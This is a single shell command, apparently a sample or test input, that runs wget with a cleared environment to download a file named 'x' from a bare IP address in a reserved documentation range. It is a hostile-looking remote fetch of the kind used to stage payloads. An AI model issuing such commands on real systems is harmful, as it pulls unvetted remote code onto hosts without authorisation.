env -i A=1 wget http://198.51.100.7/x
